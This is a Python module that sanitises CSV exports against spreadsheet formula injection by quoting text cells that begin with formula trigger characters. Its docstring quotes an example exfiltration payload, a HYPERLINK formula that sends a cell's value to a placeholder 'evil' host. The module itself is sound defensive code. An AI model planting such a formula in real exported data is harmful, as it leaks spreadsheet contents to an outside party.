"""CSV files AdLens hands to people, made safe to open in a spreadsheet (no formula injection).

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or a
carriage return) as a formula; a user id such as ``=HYPERLINK("http://evil/?"&A1)`` would run when
an exported audience is opened. Every *text* cell that starts with one of these characters gets a
single quote in front (the spreadsheet then shows the text as typed).

Decisions:

* Numeric columns (int, float, bool dtypes) are left alone: ``-0.25`` in the ``score`` column is a
  number, written as a number, and stays a number in the spreadsheet.
* A text cell that is a plain number literal (``-5``, ``+3.5``, ``-1e3``) is left alone too: a
  spreadsheet reads it as that number, never as a formula, and ids like ``-5`` keep their value.
  Anything else starting with a trigger character (``-1+2``, ``=1``, ``@SUM(A1)``) is neutralised.
"""

from __future__ import annotations

import re

import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula; anything else unchanged."""
    if not isinstance(value, str) or not value.startswith(TRIGGERS) or _NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text (object / string dtype) columns are neutralised with :func:`safe_cell`."""
    out = frame.copy()
    for column in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[column]) or pd.api.types.is_bool_dtype(out[column])):
            out[column] = out[column].map(safe_cell)
    return out


def frame_to_csv(frame: pd.DataFrame) -> str:
    """CSV text of ``frame`` (no index) with formula-like text cells neutralised.

    Lines end in CRLF (RFC 4180), so that any cell holding a carriage return or a newline is quoted
    and cannot start a new row in the reader.
    """
    return safe_frame(frame).to_csv(index=False, lineterminator="\r\n")
